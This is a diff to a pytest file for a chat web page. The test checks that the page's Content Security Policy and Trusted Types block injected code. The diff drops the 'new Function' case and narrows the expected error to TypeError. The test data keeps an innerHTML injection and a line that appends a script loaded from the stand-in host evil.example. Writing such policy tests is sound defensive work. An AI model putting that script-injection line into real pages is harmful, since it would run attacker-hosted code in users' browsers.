@@ -411,7 +411,6 @@ def test_markup_from_the_server_is_shown_as_words(chat: Chat) -> None:
 
 BREACHES = {
     "markup": "document.body.innerHTML = '<p>x</p>'",
-    "code from text": "new Function('1')",
     "somebody else's script": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
 }
 
@@ -419,12 +418,10 @@ BREACHES = {
 @pytest.mark.parametrize("breach", BREACHES.values(), ids=BREACHES.keys())
 def test_the_security_policy_holds(chat: Chat, traffic: Traffic, breach: str) -> None:
     """Trusted Types and all: were there a hole in the scripts, there would be nothing to put through it."""
-    traffic.expect("Trusted|Content Security Policy|EvalError")
+    traffic.expect("Trusted|Content Security Policy")
     chat.open()
-    assert chat.page.evaluate(f"() => {{ try {{ {breach}; return 'done' }} catch (error) {{ return error.name }} }}") in (
-        "TypeError",
-        "EvalError",
-    )
+    found = chat.page.evaluate(f"() => {{ try {{ {breach}; return 'done' }} catch (error) {{ return error.name }} }}")
+    assert found == "TypeError"
     expect(chat.replies.first).to_be_visible()
 
 
